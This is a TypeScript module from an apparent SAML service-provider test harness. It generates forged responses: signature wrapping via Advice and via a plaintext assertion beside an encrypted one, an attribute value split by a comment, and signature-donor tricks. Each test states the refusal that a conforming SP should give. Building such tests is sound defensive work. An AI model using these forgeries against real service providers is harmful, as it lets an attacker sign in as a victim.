import { randomBytes } from 'node:crypto';
import { IdpError } from '../errors.js';
import type { ResponseInput } from '../profiles/profile.js';
import { logoutResponse } from '../saml/logout.js';
import { toWire } from '../xml/element.js';
import { signEnveloped } from '../xmldsig/sign.js';
import { NS, all, assertionOf, child, parseXml, resign, serialize, setText, textOf } from './dom.js';
import {
  ASSERTION_ONLY,
  ATTACKER,
  UNSIGNED,
  asDelivery,
  evilNameId,
  makeEvil,
  signedAssertion,
  subjectNameId,
} from './helpers.js';
import { inExtensions, sibling } from './placement.js';
import type { Mutation, MutationContext } from './types.js';

/*
 * The element a verifier checked is not the element the SP then reads: an unsigned assertion
 * beside or around a signed one, a value read from the unverified document, a genuinely signed
 * document of another kind standing in for the assertion's signature, and encrypted assertions
 * whose signature is looked for before (or not after) decryption.
 */

const CONSUMED_SPEC = [
  'SAML Core 5.4.2 (the signature covers the element whose ID it names)',
  'SAML Profiles 4.1.4.2 (the SP processes the assertion that is signed, and only that one)',
  'SAML Security Considerations 6.4 (message integrity)',
];
const CONSUMED_ADVISORIES = ['CVE-2025-47949', 'CVE-2025-54369', 'CVE-2025-54419', 'CVE-2025-46572'];
const READS_VERIFIED =
  'Refuses the response: it reads the assertion only from the bytes its signature verified, and a message with more than one assertion signs no one in.';

/** The SP certificate to encrypt for; armMutation refuses a tenant without one. */
function encryptionFor(ctx: MutationContext): NonNullable<ResponseInput['encryption']> {
  if (!ctx.spCertificatePem)
    throw new IdpError('ERR_MUTATION_PRECONDITION', 'the tenant has no SP certificate to encrypt for', 409);
  return { certificatePem: ctx.spCertificatePem, data: 'aes256-cbc' };
}

/** The tenant's metadata (an EntityDescriptor) signed by the tenant's key, as a federation publishes it. */
function signedMetadata(ctx: MutationContext, into: Document): Node {
  const metadata = parseXml(ctx.metadataXml());
  metadata.documentElement.setAttribute('ID', '_md' + randomBytes(10).toString('hex'));
  const signed = resign(metadata, {
    key: ctx.input.key,
    algorithm: ctx.input.signing.algorithm,
    targets: [metadata.documentElement],
  });
  return into.importNode(parseXml(signed).documentElement, true);
}

/** A LogoutResponse the IdP signed (HTTP-POST binding, enveloped signature), as it answers an SP's logout. */
function signedLogoutResponse(ctx: MutationContext, into: Document): Node {
  const message = logoutResponse({
    issuer: ctx.input.issuer,
    destination: ctx.input.destination,
    inResponseTo: '_' + randomBytes(16).toString('hex'),
    now: ctx.input.now,
  });
  signEnveloped(message, message, 1, ctx.input.key, { algorithm: ctx.input.signing.algorithm, prefix: 'ds' });
  return into.importNode(parseXml(toWire(message)).documentElement, true);
}

/** An unsigned response whose only assertion is the attacker's, with `donor` (a signed document) in samlp:Extensions. */
function withDonor(ctx: MutationContext, donor: (ctx: MutationContext, into: Document) => Node) {
  const doc = parseXml(ctx.build(UNSIGNED));
  const assertion = assertionOf(doc);
  doc.documentElement.replaceChild(makeEvil(assertion, textOf(subjectNameId(assertion)), true), assertion);
  inExtensions(doc, doc.documentElement, donor(ctx, doc));
  return asDelivery(serialize(doc));
}

const DONOR_CONFORMING =
  'Refuses the response: a valid signature counts only when it covers the Assertion (or the Response that contains it); a signed document of another kind vouches for nothing.';

export const VERIFIED_NOT_CONSUMED_MUTATIONS: Mutation[] = [
  {
    id: 'saml.reject.assertion-in-advice',
    title: 'An unsigned evil assertion carrying the signed original inside its saml:Advice',
    spec: ['SAML Core 2.6.1 (Advice: assertions there are evidence, not the statement)', ...CONSUMED_SPEC],
    advisories: CONSUMED_ADVISORIES,
    conformingSp: READS_VERIFIED,
    signedAssertionKept: true,
    mutate(ctx) {
      const { doc, assertion } = signedAssertion(ctx);
      const evil = makeEvil(assertion, textOf(subjectNameId(assertion)));
      const advice = sibling(doc, evil, 'Advice');
      doc.documentElement.replaceChild(evil, assertion);
      advice.appendChild(assertion);
      evil.insertBefore(advice, child(evil, NS.SAML, 'Conditions').nextSibling);
      return asDelivery(serialize(doc));
    },
  },
  {
    id: 'saml.reject.attribute-value-comment',
    title:
      "A validly signed email attribute split by a comment, so a reader of the unverified document sees the victim's address",
    spec: [
      'SAML Core 2.7.3.1 (AttributeValue)',
      'RFC3741 (Exclusive XML Canonicalization: comments are not part of the signed form)',
      ...CONSUMED_SPEC.slice(1),
    ],
    advisories: ['CVE-2025-54369', 'CVE-2025-54419'],
    conformingSp:
      'Refuses the assertion (or reads the whole signed text): values come from the verified bytes, and markup inside a value is refused.',
    wholeSignedTextAllowed: true,
    mutate(ctx) {
      const victim = ctx.input.nameId;
      const mine = `${victim}.${ATTACKER}`;
      const own = (v: string) => (v.toLowerCase() === victim.toLowerCase() ? mine : v);
      const doc = parseXml(
        ctx.build((i) =>
          ASSERTION_ONLY({
            ...i,
            nameId: mine,
            attributes: i.attributes.map((a) => ({ ...a, values: a.values.map(own) })),
          }),
        ),
      );
      const split = all(assertionOf(doc), NS.SAML, 'AttributeValue').filter((v) => textOf(v) === mine);
      if (split.length === 0) throw new Error('no attribute carries the user address to split');
      for (const value of split) {
        setText(value, victim);
        value.appendChild(doc.createComment(''));
        value.appendChild(doc.createTextNode(`.${ATTACKER}`));
      }
      return asDelivery(serialize(doc));
    },
  },
  {
    id: 'saml.reject.plaintext-beside-encrypted',
    title:
      'A plaintext evil assertion placed before the genuine EncryptedAssertion, whose decrypted assertion is validly signed',
    spec: ['SAML Core 2.3.4 (EncryptedAssertion)', ...CONSUMED_SPEC],
    advisories: CONSUMED_ADVISORIES,
    needs: { spCertificate: true },
    conformingSp: READS_VERIFIED,
    signedAssertionKept: true,
    mutate(ctx) {
      const doc = parseXml(ctx.build((i) => ({ ...ASSERTION_ONLY(i), encryption: encryptionFor(ctx) })));
      const plain = assertionOf(parseXml(ctx.build(UNSIGNED)));
      const evil = doc.importNode(makeEvil(plain, textOf(subjectNameId(plain))), true);
      doc.documentElement.insertBefore(evil, child(doc.documentElement, NS.SAML, 'EncryptedAssertion'));
      return asDelivery(serialize(doc));
    },
  },
  {
    id: 'saml.reject.donor-signed-metadata',
    title:
      "An unsigned evil assertion, with the IdP's genuinely signed metadata carried in samlp:Extensions as a signature donor",
    spec: [
      'SAML Core 5.4.1 (the signature of an assertion is on the Assertion or the enclosing Response)',
      ...CONSUMED_SPEC,
    ],
    advisories: ['CVE-2024-6800'],
    conformingSp: DONOR_CONFORMING,
    mutate: (ctx) => withDonor(ctx, signedMetadata),
  },
  {
    id: 'saml.reject.donor-signed-logout-response',
    title:
      'An unsigned evil assertion, with a LogoutResponse the IdP genuinely signed carried in samlp:Extensions as a signature donor',
    spec: [
      'SAML Core 5.4.1 (the signature of an assertion is on the Assertion or the enclosing Response)',
      ...CONSUMED_SPEC,
    ],
    advisories: ['CVE-2024-6800'],
    conformingSp: DONOR_CONFORMING,
    mutate: (ctx) => withDonor(ctx, signedLogoutResponse),
  },
  {
    id: 'saml.reject.encrypted-assertion-unsigned',
    title:
      "An unsigned response whose EncryptedAssertion holds an unsigned evil assertion, next to the IdP's signed metadata",
    spec: [
      'SAML Core 6.2 (a signed assertion is encrypted after signing; its signature is checked after decryption)',
      'SAML Profiles 4.1.3.5 (POST binding: the assertion must be signed)',
      ...CONSUMED_SPEC.slice(1),
    ],
    advisories: ['CVE-2024-4985', 'CVE-2024-9487'],
    needs: { spCertificate: true },
    conformingSp:
      'Refuses the response: after decryption the assertion must carry a valid signature (or sit in a signed Response); signatures found before decryption vouch for nothing inside it.',
    mutate(ctx) {
      const encryption = encryptionFor(ctx);
      const doc = parseXml(ctx.build((i) => ({ ...UNSIGNED(i), nameId: evilNameId(i.nameId), encryption })));
      inExtensions(doc, doc.documentElement, signedMetadata(ctx, doc));
      return asDelivery(serialize(doc));
    },
  },
];
